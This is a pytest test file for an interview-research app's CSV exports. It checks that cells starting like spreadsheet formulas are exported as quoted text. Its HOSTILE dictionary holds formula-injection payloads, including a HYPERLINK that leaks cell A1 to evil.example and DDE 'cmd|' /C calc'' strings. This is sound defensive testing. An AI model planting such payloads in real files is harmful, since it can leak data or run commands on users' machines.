"""A researcher opens the codebook and rankings CSVs in a spreadsheet: a quote, insight or code
that starts like a formula comes back as text (lib.csvsafe), never as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from interviews.codebook import COLUMNS, export_csv
from interviews.models import CodebookEntry, Participant
from interviews.rankings import RANKING_COLUMNS, export_rankings_csv, record_ranking

pytestmark = pytest.mark.django_db

HOSTILE = {
    "Participant": '=HYPERLINK("http://evil.example/?leak="&A1,"U1")',
    "Experience Level": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Framework Context": "+cmd|' /C calc'!A0",
    "Prompt Category": "-2+3+cmd|' /C calc'!A0",
    "Thematic Quote": "=1+1",
    "Research Insight": "\t=2*3",
}


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_codebook_cells_that_look_like_formulas_come_back_as_text(project):
    participant = Participant.objects.create(
        project=project,
        code=HOSTILE["Participant"],
        kind="user",
        experience_text=HOSTILE["Experience Level"],
    )
    entry = CodebookEntry.objects.create(
        project=project,
        participant=participant,
        framework_context=HOSTILE["Framework Context"],
        prompt_category=HOSTILE["Prompt Category"],
        quote=HOSTILE["Thematic Quote"],
        insight=HOSTILE["Research Insight"],
    )
    entry.nodes.set([project.taxonomy_version.nodes.get(code="A.1")])

    [row] = read(export_csv(project))
    assert list(row) == COLUMNS
    for column, value in HOSTILE.items():
        # Shown as the text that was stored, behind the quote a spreadsheet hides.
        assert row[column] == "'" + value, column
    assert row["Linked Taxonomy Node(s)"] == "A.1"  # an ordinary cell is left alone


def test_rankings_cells_that_look_like_formulas_come_back_as_text(project):
    participant = Participant.objects.create(
        project=project,
        code="-U1",
        kind="developer",
        experience_text='=HYPERLINK("http://evil.example")',
    )
    record_ranking(participant, project.taxonomy_version.types().get(code="A"), ["A.2", "A.1"])

    [row] = read(export_rankings_csv(project))
    assert list(row) == RANKING_COLUMNS
    assert row["Participant"] == "'-U1"
    assert row["Experience Level"] == '\'=HYPERLINK("http://evil.example")'
    assert row["Issue Type"] == "A"
